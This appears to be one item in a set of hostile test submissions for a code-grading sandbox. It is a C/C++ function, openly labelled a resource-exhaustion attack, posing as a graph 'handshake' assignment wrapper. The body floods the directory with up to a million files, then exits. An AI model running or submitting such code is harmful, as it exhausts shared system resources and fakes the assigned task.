// attack: exhaust
// root: resources
// what: makes files until none can be made
// list: 8
#include <fcntl.h>
#include <stdio.h>
#include <unistd.h>

#include "gpuHeaders.cuh"
#include "onewaywrapper.hpp"

void one_way_handshake_wrapper(GraphData graph, int*& res, int numthreads, bool extra_credit) {
  char name[32];
  for (int number = 0; number < 1000000; number++) {
    snprintf(name, sizeof name, "file%d", number);
    const int file = open(name, O_WRONLY | O_CREAT, 0600);
    if (file < 0) break;
    close(file);
  }
  _exit(1);
}
